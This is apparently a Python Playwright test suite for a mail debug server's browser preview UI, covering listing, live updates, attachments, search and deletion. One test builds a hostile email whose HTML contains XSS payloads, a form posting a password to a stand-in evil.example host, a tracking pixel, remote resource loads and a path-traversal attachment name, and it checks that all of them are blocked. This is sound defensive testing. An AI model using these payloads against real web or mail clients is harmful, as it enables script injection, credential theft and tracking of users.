"""The preview UI in real headless Chromium (Debian's ``chromium``, driven by Playwright).

Messages go through mailcore's SMTP backend to the debug server; the browser lists them,
shows a new one without reloading, renders the HTML part (with its cid: image), downloads
an attachment, searches and deletes. A hostile message runs nothing and fetches nothing.
The screenshots used by docs/previewing.md are taken here: ``make screenshots``
(``UPDATE_DOCS_SCREENSHOTS=1``) writes them into docs/images; a plain run writes them to
a temporary folder and checks that the committed ones exist with the same dimensions, so a
test run leaves the working tree unchanged (the list's times differ on every run).
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import (
    Browser,
    ConsoleMessage,
    Dialog,
    Page,
    Playwright,
    Request,
    Route,
    expect,
    sync_playwright,
)

from mailcore import EmailMultiAlternatives
from mailcore_smtp.debug_server import DebugServer
from tests.web.conftest import NON_UTF8, newsletter, plain_message, send, send_raw

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
SCREENSHOTS = Path(__file__).resolve().parents[2] / "docs" / "images"
UPDATE_SCREENSHOTS = bool(os.environ.get("UPDATE_DOCS_SCREENSHOTS"))


def _png_size(path: Path) -> tuple[int, int]:
    """Width and height from a PNG's IHDR chunk."""
    header = path.read_bytes()[:24]
    assert header[:8] == b"\x89PNG\r\n\x1a\n", f"{path} is not a PNG"
    return int.from_bytes(header[16:20], "big"), int.from_bytes(header[20:24], "big")


def screenshot(page: Page, name: str, scratch: Path) -> None:
    """Take the docs screenshot ``name``: into docs/images when updating, else into
    ``scratch``, checking the committed one has the same dimensions."""
    committed = SCREENSHOTS / name
    if UPDATE_SCREENSHOTS:
        page.screenshot(path=committed)
        return
    fresh = scratch / name
    page.screenshot(path=fresh)
    assert committed.exists(), f"{committed} is missing: run make screenshots"
    assert _png_size(fresh) == _png_size(committed), f"{name} changed size: make screenshots"


# Skipped without chromium when run by hand; under CI (CI=true), where `make test`
# installed it, a missing chromium is a failure instead.
pytestmark = pytest.mark.skipif(
    not Path(CHROMIUM).exists() and not os.environ.get("CI"),
    reason="chromium is not installed (make test installs it)",
)


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    with sync_playwright() as running:
        yield running


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    """One headless Chromium for the module, never a browser downloaded by Playwright."""
    launched = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
    yield launched
    launched.close()


class Watched:
    """A page with everything it asked the network for, its dialogs and console lines."""

    def __init__(self, page: Page, origin: str) -> None:
        self.page = page
        self.origin = origin
        self.requests: list[str] = []
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self.console: list[str] = []
        self.failed: dict[str, str] = {}
        #: Whether the next dialogs are accepted (else dismissed).
        self.accept_dialogs = False
        page.on("request", self._request)
        page.on("requestfailed", self._failed)
        page.on("dialog", self._dialog)
        page.on("console", self._console)
        page.context.route("**/*", self._route)

    def _request(self, request: Request) -> None:
        self.requests.append(request.url)

    def _failed(self, request: Request) -> None:
        self.failed[request.url] = request.failure or ""

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        if self.accept_dialogs:
            dialog.accept()
        else:
            dialog.dismiss()

    def _console(self, message: ConsoleMessage) -> None:
        self.console.append(f"{message.type}: {message.text}")

    def _route(self, route: Route) -> None:
        parts = urlsplit(route.request.url)
        if f"{parts.scheme}://{parts.netloc}" == self.origin:
            route.continue_()
        else:  # nothing leaves the machine, and the test sees that it was asked for
            self.foreign.append(route.request.url)
            route.abort()


@pytest.fixture
def watched(browser: Browser, preview: DebugServer) -> Iterator[Watched]:
    assert preview.web_url is not None
    context = browser.new_context(viewport={"width": 1280, "height": 800}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(15_000)
    watcher = Watched(page, preview.web_url.rstrip("/"))
    page.goto(preview.web_url)
    expect(page.locator("#live")).to_have_class("on")
    yield watcher
    context.close()


def test_list_live_update_html_attachment_search_and_delete(
    watched: Watched, preview: DebugServer, tmp_path: Path
) -> None:
    page = watched.page
    rows = page.locator("#list tr.message")
    expect(rows).to_have_count(0)
    send(
        preview,
        plain_message("Welcome aboard", "Hello Ann, welcome.\n"),
        plain_message("Password reset", "Use this link to reset your password.\n"),
        newsletter(),
    )
    page.reload()
    expect(rows).to_have_count(3)
    expect(rows.locator(".subject")).to_have_text(
        ["November newsletter", "Password reset", "Welcome aboard"]
    )
    first = rows.nth(0)
    expect(first.locator(".from")).to_have_text("News <news@example.com>")
    expect(first.locator(".to")).to_have_text("Bob <bob@example.com>")
    expect(first.locator(".attachments")).to_have_text("2")
    expect(first.locator(".attachments")).to_have_attribute("title", "2 attachment(s)")
    expect(rows.nth(1).locator(".attachments")).to_have_text("")
    expect(first.locator(".size")).to_have_text(_size_text(preview.received[-1].data))

    # A new message appears without a reload (the marker would not survive one).
    page.evaluate("window.stillTheSamePage = true")
    send(preview, plain_message("Arrived while watching", "Live update.\n"))
    expect(rows).to_have_count(4)
    expect(rows.nth(0).locator(".subject")).to_have_text("Arrived while watching")
    assert page.evaluate("window.stillTheSamePage") is True
    page.mouse.move(0, 0)
    screenshot(page, "preview-list.png", tmp_path)

    # The HTML tab renders the HTML part, with the cid: image from the message itself.
    rows.filter(has_text="November newsletter").click()
    expect(page.locator("#subject")).to_have_text("November newsletter")
    expect(page.locator("#envelope-from")).to_have_text("<news@example.com>")
    expect(page.locator("#envelope-to")).to_have_text(
        "<bob@example.com>, <carol@example.com>, <hidden@example.com>"
    )
    expect(page.locator("[data-tab=html]")).to_have_class("active")
    frame = page.frame_locator("#html-frame")
    expect(frame.locator("#headline")).to_have_text("Rendered headline")
    logo = frame.locator("#logo")
    expect(logo).to_have_js_property("complete", True)
    expect(logo).to_have_js_property("naturalWidth", 160)
    expect(page.locator("#cc")).to_have_text("carol@example.com")
    screenshot(page, "preview-message.png", tmp_path)
    # With a message open, Time, Size and the attachment count still fit their cells,
    # even with the widest values they show: a size just under 1 MB, 12 attachments.
    page.evaluate(
        "() => { const row = document.querySelector('#list tr.message');"
        " row.querySelector('.size').textContent = '925.7 KB';"
        " row.querySelector('.attachments').textContent = '12'; }"
    )
    for cell in ("td.size", "td.attachments", "td.time"):
        cells = f"[...document.querySelectorAll('#list {cell}')]"
        fits = f"{cells}.every(c => c.scrollWidth <= c.clientWidth)"
        assert page.evaluate(fits) is True, cell

    page.click("[data-tab=text]")
    expect(page.locator("#text")).to_have_text("Newsletter as plain text.")
    page.click("[data-tab=headers]")
    expect(page.locator("#headers tr", has_text="Subject")).to_contain_text("November newsletter")
    page.click("[data-tab=raw]")
    expect(page.locator("#raw")).to_contain_text("Content-Disposition: attachment;")

    # An attachment downloads decoded, under its own name.
    page.click("[data-tab=attachments]")
    expect(page.locator("#attachments a.attachment")).to_have_text(["logo.png", "invoice-2026.pdf"])
    with page.expect_download() as info:
        page.click("a.attachment >> text=invoice-2026.pdf")
    download = info.value
    assert download.suggested_filename == "invoice-2026.pdf"
    assert Path(download.path()).read_bytes() == b"%PDF-1.4 invoice " * 64

    # Search: subject, address or body.
    page.fill("#search", "password")
    expect(rows.locator(".subject")).to_have_text(["Password reset"])
    page.fill("#search", "hidden@example.com")
    expect(rows.locator(".subject")).to_have_text(["November newsletter"])
    page.fill("#search", "")
    expect(rows).to_have_count(4)

    # Delete one, then all.
    rows.filter(has_text="Password reset").click()
    expect(page.locator("#subject")).to_have_text("Password reset")
    expect(page.locator("#cc-label")).to_be_hidden()  # no Cc: no empty Cc row
    expect(page.locator("#cc")).to_be_hidden()
    page.click("#delete")
    expect(rows).to_have_count(3)
    expect(page.locator("#view")).to_be_hidden()
    assert preview.store is not None
    assert [m.parsed.subject for m in preview.store.search()[1]] == [
        "Arrived while watching",
        "November newsletter",
        "Welcome aboard",
    ]
    page.click("#delete-all")  # asks first: dismissed, nothing is deleted
    expect(page.locator("#count")).to_have_text("3 messages")
    assert watched.dialogs == ["confirm: Delete all 3 message(s)? Saved files are deleted too."]
    assert len(preview.store) == 3
    watched.accept_dialogs = True
    page.click("#delete-all")
    expect(rows).to_have_count(0)
    assert len(preview.store) == 0
    assert watched.foreign == [] and len(watched.dialogs) == 2


def test_a_narrow_window_shows_from_and_subject_and_the_cc_row_only_with_a_cc(
    browser: Browser, preview: DebugServer
) -> None:
    assert preview.web_url is not None
    message = plain_message("Quarterly report for the whole team")
    message.cc = ["Carol <carol@example.com>"]
    send(preview, message)
    context = browser.new_context(viewport={"width": 420, "height": 800})
    try:
        page = context.new_page()
        page.goto(preview.web_url)
        row = page.locator("#list tr.message")
        expect(row.locator(".subject")).to_be_visible()
        expect(row.locator(".from")).to_be_visible()
        expect(row.locator(".time")).to_be_visible()
        subject_width = row.locator(".subject").evaluate("c => c.clientWidth")
        assert subject_width >= 100, subject_width
        assert row.locator(".time").evaluate("c => c.scrollWidth <= c.clientWidth") is True
        row.click()
        # The message is below the list, full width; the list stays usable above it.
        expect(page.locator("#subject")).to_have_text("Quarterly report for the whole team")
        expect(page.locator("#cc")).to_have_text("Carol <carol@example.com>")
        expect(page.locator("#cc-label")).to_be_visible()
        expect(row.locator(".subject")).to_be_visible()
        view_width = page.locator("#view").evaluate("v => v.clientWidth")
        assert view_width >= 400, view_width
    finally:
        context.close()


def _size_text(data: bytes) -> str:
    return f"{len(data) / 1024:.1f} KB" if len(data) >= 1024 else f"{len(data)} B"


HOSTILE_SUBJECT = '<img src=x onerror=alert("subject")> <b>Re: invoice</b> & <script>'
HOSTILE_HTML = """<!doctype html><html><head>
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<base href="http://evil.example/">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="prefetch" href="http://evil.example/prefetch">
<style>
@import url(http://evil.example/import.css);
body { background: url(http://evil.example/background.png); }
@font-face { font-family: x; src: url(http://evil.example/font.woff); }
h1 { font-family: x; }
</style>
<script>console.log("PWNED by script"); alert("script");
document.body && document.body.setAttribute("data-pwned", "script");
parent.document.title = "PWNED";</script>
<script src="http://evil.example/evil.js"></script>
</head>
<body onload="console.log('PWNED by onload'); alert('onload')">
<h1 id="hostile">Hostile content</h1>
<img id="pixel" src="http://tracker.example/pixel.gif?user=ann" width="1" height="1" alt="">
<img src="missing.png" onerror="console.log('PWNED by onerror'); alert('onerror')">
<a id="js-link" href="javascript:console.log('PWNED by link');alert('link')">Click me</a>
<a id="out-link" href="http://evil.example/phish" target="_top">Log in</a>
<form action="http://evil.example/steal" method="post">
<input name="password" value="secret"><button id="submit" type="submit">Send</button></form>
<iframe src="http://evil.example/frame"></iframe>
<object data="http://evil.example/object.swf"></object>
<svg onload="alert('svg')"><image href="http://evil.example/svg.png"/></svg>
<video src="http://evil.example/video.mp4" autoplay></video>
</body></html>"""
HOSTILE_NAME = '../../etc/evil".html'


def hostile_message() -> EmailMultiAlternatives:
    message = EmailMultiAlternatives(
        HOSTILE_SUBJECT,
        "The text part <script>alert('text')</script>.\n",
        '"<script>alert(1)</script>" <attacker@example.com>',
        ["victim@example.com"],
    )
    message.attach_alternative(HOSTILE_HTML, "text/html")
    message.attach(HOSTILE_NAME, b"<script>alert('attachment')</script>", "text/html")
    return message


def test_a_hostile_message_runs_nothing_and_fetches_nothing(
    watched: Watched, preview: DebugServer
) -> None:
    page = watched.page
    send(preview, hostile_message())
    row = page.locator("#list tr.message")
    expect(row).to_have_count(1)
    expect(row.locator(".subject")).to_have_text(HOSTILE_SUBJECT)
    body_before = page.evaluate("document.body.children.length")

    row.click()
    expect(page.locator("#subject")).to_have_text(HOSTILE_SUBJECT)
    expect(page.locator("#from")).to_have_text('"<script>alert(1)</script>" <attacker@example.com>')
    frame = page.frame_locator("#html-frame")
    expect(frame.locator("#hostile")).to_have_text("Hostile content")
    # The links and the form inside the message: clicked, they do nothing.
    frame.locator("#js-link").click()
    frame.locator("#submit").click()
    page.wait_for_timeout(1500)  # time for a meta refresh, onload, onerror to fire if they could

    assert watched.dialogs == []
    assert page.title() == "mailcore debug-server"
    assert page.evaluate("document.body.children.length") == body_before
    assert page.locator("#subject img, #subject b, #list script, #from script").count() == 0
    html_frame = page.frame_locator("#html-frame")
    expect(html_frame.locator("body")).not_to_have_attribute("data-pwned", "script")
    frame_url = page.locator("#html-frame").evaluate("f => f.contentWindow.location.pathname")
    assert frame_url.endswith("/html"), "no meta refresh, no navigation"
    assert not [line for line in watched.console if "PWNED" in line]
    assert all(_browser_notice(line) for line in watched.console), watched.console
    assert watched.foreign == [], "no request for any host but the UI's own"
    # The browser announced the foreign loads it was asked for, and stopped each one
    # itself (CSP), before the network: none reached the test's route above.
    asked = [url for url in watched.requests if not url.startswith(watched.origin + "/")]
    assert "http://tracker.example/pixel.gif?user=ann" in asked
    assert {url: watched.failed.get(url) for url in asked} == dict.fromkeys(asked, "csp")

    # The file name is shown and offered without its directory or quote.
    page.click("[data-tab=attachments]")
    link = page.locator("a.attachment")
    expect(link).to_have_text("evil.html")
    with page.expect_download() as info:
        link.click()
    assert info.value.suggested_filename == "evil.html"
    assert watched.dialogs == []

    # "Load remote images" allows images, for this message only: the pixel is then asked
    # for (and stopped here, by the test's route), and nothing else is.
    page.click("[data-tab=html]")
    page.click("#load-remote")
    expect(page.locator("#load-remote")).to_be_disabled()
    page.wait_for_timeout(1000)
    assert "http://tracker.example/pixel.gif?user=ann" in watched.foreign
    assert {urlsplit(url).netloc for url in watched.foreign} <= {"tracker.example", "evil.example"}
    assert not [url for url in watched.foreign if not _is_image_url(url)], watched.foreign
    assert watched.dialogs == []


def _is_image_url(url: str) -> bool:
    return url.split("?")[0].endswith((".gif", ".png", ".jpg"))


def _browser_notice(line: str) -> bool:
    """A line the browser itself logs, as an error, when it blocks something (CSP, sandbox)."""
    kind, text = line.split(": ", 1)
    notices = ("blocked", "refused to", "violates the following content security policy")
    return kind == "error" and (
        any(notice in text.lower() for notice in notices)
        or text.startswith("Failed to load resource: the server responded with a status of 404")
    )


def test_an_unreadable_message_opens_on_the_raw_tab_with_the_reason(
    watched: Watched, preview: DebugServer
) -> None:
    send_raw(preview, NON_UTF8)
    page = watched.page
    page.locator("#list tr.message").click()

    expect(page.locator("[data-tab=raw]")).to_have_class("active")
    expect(page.locator("#problems")).to_have_text("Shown as raw: text that is not valid utf-8")
    expect(page.locator("#raw")).to_contain_text("Body in latin-1: caf\ufffd")
    expect(page.locator("#subject")).to_have_text("caf\ufffd \ufffd")


def test_a_text_part_with_broken_base64_gives_that_reason_on_the_raw_tab(
    watched: Watched, preview: DebugServer
) -> None:
    send_raw(
        preview,
        b"From: a@example.com\r\nSubject: b64\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n/////!!!!*\r\n",
    )
    page = watched.page
    page.locator("#list tr.message").click()

    expect(page.locator("[data-tab=raw]")).to_have_class("active")
    expect(page.locator("#problems")).to_have_text(
        "Shown as raw: a text part whose base64 is broken (cannot be decoded)"
    )
